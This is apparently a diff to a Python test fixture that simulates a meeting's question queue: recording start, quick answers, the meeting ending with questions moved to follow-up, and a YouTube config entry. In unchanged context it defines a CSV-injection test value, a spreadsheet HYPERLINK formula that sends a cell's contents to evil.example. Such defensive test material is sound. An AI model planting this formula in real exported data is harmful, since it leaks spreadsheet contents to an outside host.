@@ -5,7 +5,10 @@ report imported after the call), approvals, edits, tags, a star, assignments, no
 (one keeping the merged question's wording), every dismissal reason (including `banned` from a
 ban and `withdrawn` from a deletion at the source) and hostile text aimed at CSV, Markdown and
 MediaWiki. Answers happen in an order different from the ids, and one question is reopened and
-answered again, so the notes page's answer order is really derived from the history.
+answered again, so the notes page's answer order is really derived from the history. The
+recording's start is marked, two answers follow each other within 10 s (one chapter), the
+meeting ends with a question still live and one on the host list (both move to follow-up),
+and a follow-up question gets its written answer after the call.
 """
 
 from __future__ import annotations
@@ -30,6 +33,9 @@ title = "Conversation with Maggie"
 starts_at = "2022-11-10T14:00:00Z"
 host = "Maggie"
 answerers = ["Maggie", "Jan", "Kaarel", "Simona"]
+
+[youtube]
+video = "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
 """
 
 HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
@@ -153,6 +159,8 @@ async def build_meeting(queue: QuestionQueue, clock: Clock) -> None:
         "youtube", "yt-9", "Troll", "UC3", "still clowns", "2022-11-10T14:09:59.000Z"))
     assert queue.get(again).status is Status.DISMISSED  # the ban at work
 
+    clock.at("14:10:30")
+    await cmd("recording_started")
     # The call: strategy first (through `next`), then grants, then the API question.
     clock.at("14:12:00")
     await cmd("reorder", strategy, rank=0)
@@ -193,6 +201,31 @@ async def build_meeting(queue: QuestionQueue, clock: Clock) -> None:
     await cmd("go_live", manual)
     clock.at("15:04:00")
     await cmd("answered", manual)
+    listed = await submit("15:04:01", _in(
+        "youtube", "yt-10", "Lister", "UC10", "10) is this a list?", "2022-11-10T15:04:00.000Z"))
+    await cmd("approve", listed)
+    await cmd("go_live", listed)
+    clock.at("15:04:06")  # answered at once: within 10 s of the next one
+    await cmd("answered", listed)
+    quick = await submit("15:04:07", _in(
+        "youtube", "yt-11", "Quick", "UC11", "1) And a quick one?", "2022-11-10T15:04:07.000Z"))
+    left = await submit("15:04:08", _in(
+        "zoom", "zm-5", "Nia", "16778250", "Will there be a follow-up session?",
+        "2022-11-10T15:04:08.000Z"))
+    await cmd("approve", quick)
+    await cmd("go_live", quick)
+    clock.at("15:04:20")
+    await cmd("answered", quick)
+    later = await submit("15:04:30", _in(
+        "email", "<d4@example.org>", "Olu", "olu@example.org",
+        "How do I join the next call?", "2022-11-10T15:04:29.000Z", email="olu@example.org"))
+    await cmd("approve", left)
+    await cmd("approve", later)
+    clock.at("15:05:00")
+    await cmd("go_live", left)
+    await cmd("end_meeting", actor="Maggie")  # the live one and the host list to follow-up
+    clock.at("15:20:00")
+    await cmd("note", minutes, note="The minutes are on Meta since 14 November.")
     # After the call: the webinar's Q&A report (answered there, or left for writing).
     clock.at("15:35:00")
     await queue.submit_batch([
